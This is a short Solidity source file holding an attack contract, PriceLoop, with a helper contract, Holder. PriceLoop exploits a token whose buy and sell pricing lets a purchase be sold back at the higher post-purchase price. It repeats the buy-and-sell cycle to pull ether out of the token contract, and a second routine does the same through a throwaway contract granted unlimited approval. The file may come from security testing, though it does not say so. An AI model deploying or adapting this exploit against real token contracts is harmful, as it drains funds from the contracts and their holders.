// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ICoin {
    function buy() external payable returns (uint256);

    function buyFor(address receiver) external payable returns (uint256);

    function sell(uint256 coins) external returns (uint256);

    function sellFrom(address holder, uint256 coins) external returns (uint256);

    function approve(address spender, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Buys a lot at the price before the purchase and sells it at the price after, again and again.
contract PriceLoop {
    function run(ICoin coin, uint256 rounds) external payable {
        uint256 stake = msg.value;
        for (uint256 i = 0; i < rounds; i++) {
            coin.buy{value: stake}();
            coin.sell(coin.balanceOf(address(this)));
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    /// The coins are bought for another account, which has them sold.
    function runApart(ICoin coin) external payable {
        Holder holder = new Holder(coin);
        coin.buyFor{value: msg.value}(address(holder));
        coin.sellFrom(address(holder), coin.balanceOf(address(holder)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract Holder {
    constructor(ICoin coin) {
        coin.approve(msg.sender, type(uint256).max);
    }
}
